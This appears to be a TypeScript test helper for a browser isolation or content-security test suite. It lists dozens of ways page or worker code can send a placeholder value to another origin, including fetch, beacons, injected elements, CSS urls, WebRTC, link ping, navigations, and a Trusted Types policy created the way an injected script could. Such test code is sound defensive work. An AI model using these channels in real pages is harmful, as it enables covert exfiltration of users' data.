// Every way in which code could send data to another origin. These functions run inside a page or a worker, so they use
// nothing from outside themselves. Failures are dropped, because the question is not whether an attempt is refused. A
// recorder shows whether anything arrived.

/** Tries what both pages and workers can do. */
export async function sendFromAnyThread(target: string): Promise<void> {
  const secret = 'name=value';
  const attempt = (send: () => unknown) =>
    Promise.race([
      Promise.resolve().then(send),
      new Promise((resolve) => setTimeout(resolve, 1_000)),
    ]).catch(() => undefined);

  await attempt(() => fetch(`${target}fetch`, { method: 'POST', body: secret, mode: 'no-cors' }));
  await attempt(() => {
    const request = new XMLHttpRequest();
    request.open('POST', `${target}xhr`);
    request.send(secret);
  });
  await attempt(() => new WebSocket(`${target.replace('http', 'ws')}websocket`));
  await attempt(() => new EventSource(`${target}event-source`));
  await attempt(() => import(/* @vite-ignore */ `${target}import`) as Promise<unknown>);
  await attempt(() => new FontFace('secret', `url(${target}font)`).load());
  await attempt(async () => (await caches.open('secret')).add(`${target}cache`));
  await attempt(() => {
    type Policy = Record<'createScriptURL', (url: string) => string>;
    const thread = globalThis as unknown as {
      trustedTypes?: { createPolicy(name: string, rules: Policy): Policy };
      importScripts(url: string): void;
    };
    // An injected script could create the one policy that is allowed, so this does.
    const policy = thread.trustedTypes?.createPolicy('debut-worker-url', {
      createScriptURL: (url) => url,
    });
    const url = `${target}import-scripts`;
    thread.importScripts(policy?.createScriptURL(url) ?? url);
  });
  await caches.delete('secret').catch(() => undefined);
}

/** Tries what only a page can do and what does not end it. */
export async function sendFromPage(target: string): Promise<void> {
  const add = (tag: string, properties: object) =>
    document.body.append(Object.assign(document.createElement(tag), properties));
  const click = (tag: string, properties: object) => {
    const element = Object.assign(document.createElement(tag), properties);
    document.body.append(element);
    element.click();
  };
  const peer = { iceServers: [{ urls: `stun:${new URL(target).host}` }] };
  const guess = JSON.stringify({ prefetch: [{ urls: [`${target}speculation`] }] });
  const attempts = [
    () => navigator.sendBeacon(`${target}beacon`, 'name=value'),
    () => add('img', { src: `${target}image` }),
    () => add('img', { srcset: `${target}image-set 2x, ${target}image-set 1x` }),
    () => add('input', { type: 'image', src: `${target}image-button` }),
    () => add('iframe', { src: `${target}frame` }),
    () => add('script', { src: `${target}script` }),
    () => add('script', { type: 'speculationrules', textContent: guess }),
    () => add('link', { rel: 'stylesheet', href: `${target}style` }),
    () => add('link', { rel: 'prefetch', href: `${target}prefetch` }),
    () => add('link', { rel: 'preload', as: 'image', href: `${target}preload` }),
    () => add('link', { rel: 'modulepreload', href: `${target}module` }),
    () => add('video', { src: `${target}video` }),
    () => add('audio', { src: `${target}audio` }),
    () => add('object', { data: `${target}object` }),
    () => add('embed', { src: `${target}embed` }),
    () => document.body.style.setProperty('background-image', `url(${target}background)`),
    () => add('style', { textContent: `@import url(${target}imported-style);` }),
    () => click('a', { href: '#ping', ping: `${target}ping` }),
    () => click('a', { href: `${target}new-tab`, target: '_blank' }),
    () => open(`${target}window`),
    async () => {
      const connection = new RTCPeerConnection(peer);
      connection.createDataChannel('secret');
      await connection.setLocalDescription(await connection.createOffer());
    },
  ];
  for (const attempt of attempts)
    await Promise.resolve()
      .then(attempt)
      .catch(() => undefined);
}

/** Ways for a page to navigate to another origin with data. Each can end the page. */
export const DEPARTURES = ['address', 'link', 'form', 'refresh'] as const;

export function departFromPage([target, way]: readonly [
  string,
  (typeof DEPARTURES)[number],
]): void {
  const add = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, properties: object) => {
    const element = Object.assign(document.createElement(tag), properties);
    document.body.append(element);
    return element;
  };
  const url = `${target}${way}?name=value`;
  if (way === 'address') location.href = url;
  if (way === 'link') add('a', { href: url }).click();
  if (way === 'form') add('form', { action: url, method: 'post' }).submit();
  if (way === 'refresh') add('meta', { httpEquiv: 'refresh', content: `0;url=${url}` });
}
